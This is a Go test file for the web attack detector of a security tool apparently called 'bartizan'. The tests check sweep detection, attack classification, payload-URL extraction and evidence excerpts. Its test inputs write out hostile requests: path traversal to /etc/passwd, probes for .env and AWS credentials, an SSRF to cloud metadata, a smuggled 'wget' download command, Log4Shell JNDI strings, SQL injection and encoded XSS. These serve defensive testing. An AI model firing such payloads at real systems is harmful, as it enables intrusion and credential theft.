package web

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"bartizan/internal/detect"
	"bartizan/internal/detect/detecttest"
	"bartizan/internal/model"
	"bartizan/internal/observe"
)

func request(target, body string) observe.Observation {
	return detecttest.Observation(detecttest.Request(target, "Mozilla/5.0 (X11; Linux x86_64)", body))
}

func conclude(d detect.Detector, os ...observe.Observation) map[string]model.Signal {
	got := map[string]model.Signal{}
	e := detect.NewEngine([]detect.Named{{Name: "web", Detector: d}}, detect.Options{})
	for _, o := range os {
		o.Service = "http"
		e.Process([]observe.Observation{o}, func(s model.Signal) { got[s.Kind] = s })
	}
	return got
}

func TestSweep(t *testing.T) {
	three := []observe.Observation{request("/.env", ""), request("/.git/config", ""), request("/.aws/credentials", "")}
	if got := conclude(fresh(t)(), three...); got["scan.web-sweep"].Class != model.ClassScan {
		t.Errorf("three places: %v", got)
	}
	if got := conclude(fresh(t)(), three[0], three[0], three[1]); got["scan.web-sweep"].Kind != "" {
		t.Error("two places made a sweep")
	}
	three[2].Time = three[2].Time.Add(time.Hour)
	if got := conclude(fresh(t)(), three...); got["scan.web-sweep"].Kind != "" {
		t.Error("the third an hour later made a sweep")
	}
	var missing []observe.Observation
	for i := range 12 {
		missing = append(missing, request(fmt.Sprintf("/page-%d", i), ""))
	}
	if got := conclude(fresh(t)(), missing...); got["scan.web-sweep"].Kind == "" {
		t.Error("twelve missing pages")
	}
	if got := conclude(fresh(t)(), missing[:11]...); len(got) != 0 {
		t.Errorf("eleven missing pages: %v", got)
	}
	for i := range missing {
		missing[i].HTTP.Status = 200
	}
	if got := conclude(fresh(t)(), missing...); len(got) != 0 {
		t.Errorf("pages that exist: %v", got)
	}
}

// A request that several rules recognise is one piece of evidence.
func TestOneRequestIsOneKind(t *testing.T) {
	for _, target := range []string{"/../../../../etc/passwd", "/?u=http://169.254.169.254/latest/meta-data/iam/", "/.env?x=../../../../.aws/credentials"} {
		got := conclude(fresh(t)(), request(target, ""))
		classes := map[model.Class]bool{}
		for kind, s := range got {
			classes[s.Class] = true
			if kind == "scan.web-sweep" {
				t.Errorf("%s: one request is no sweep", target)
			}
		}
		if len(got) < 2 || len(classes) != 1 {
			t.Errorf("%s: %v", target, got)
		}
	}
}

func TestPayloadURL(t *testing.T) {
	got := conclude(fresh(t)(), request("/x", "a=;wget http://192.0.2.7/mips -O /tmp/m"))
	s := got["file.download-url"]
	if len(s.Related) != 2 || s.Related[0].String() != "url:http://192.0.2.7/mips" || s.Related[1].String() != "ip:192.0.2.7" {
		t.Errorf("%+v", got)
	}
	got = conclude(fresh(t)(), request("/?x=$%7Bjndi:ldap://192.0.2.7:1389/a%7D", ""))
	if s := got["web.jndi-injection"]; len(s.Related) == 0 || s.Related[0].String() != "url:ldap://192.0.2.7:1389/a" || got["file.download-url"].Kind != "" {
		t.Errorf("%+v", got)
	}
}

func TestEvidenceQuotesThePayload(t *testing.T) {
	got := conclude(fresh(t)(), request("/x?"+strings.Repeat("a=b&", 300)+"id=1+union+select+2--", ""))
	if ex := got["web.sql-injection"].Evidence[0].Excerpt; !strings.Contains(ex, "union") || len(ex) > model.MaxExcerpt {
		t.Errorf("excerpt %q", ex)
	}
}

// TestHarmlessIsRemembered: what was found harmless is not matched again, and
// what differs in one byte is.
func TestHarmlessIsRemembered(t *testing.T) {
	d := fresh(t)().(*detector)
	ok := request("/index.html", "")
	ok.HTTP.Status = 200
	for range 3 {
		conclude(d, ok)
	}
	if d.clean.Len() != 1 {
		t.Errorf("%d remembered", d.clean.Len())
	}
	bad := ok
	h := *ok.HTTP
	h.Headers = append(append([]observe.Field(nil), h.Headers...), observe.Field{Name: "X", Value: "${jndi:ldap://a.example/}"})
	bad.HTTP = &h
	if got := conclude(d, bad); got["web.jndi-injection"].Kind == "" {
		t.Errorf("%v", got)
	}
	if d.clean.Len() != 1 {
		t.Error("a hostile request was remembered as harmless")
	}
}

func FuzzWeb(f *testing.F) {
	f.Add("/..%c0%af", "x-a: ${jndi:", "a=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==&b=%3C")
	d := fresh(f)() // before, because compiling the rules is not part of any input's time
	f.Fuzz(func(t *testing.T, target, header, body string) {
		name, value, _ := strings.Cut(header, ":")
		o := request(target, body)
		o.HTTP.Headers = append(o.HTTP.Headers, observe.Field{Name: name, Value: value}, observe.Field{Name: "Cookie", Value: header})
		e := detect.NewEngine([]detect.Named{{Name: "web", Detector: d}}, detect.Options{})
		e.Process([]observe.Observation{o}, func(model.Signal) {})
		if n := e.Counters(); len(n.Panics) > 0 || n.Invalid > 0 {
			t.Fatalf("%+v", n)
		}
	})
}
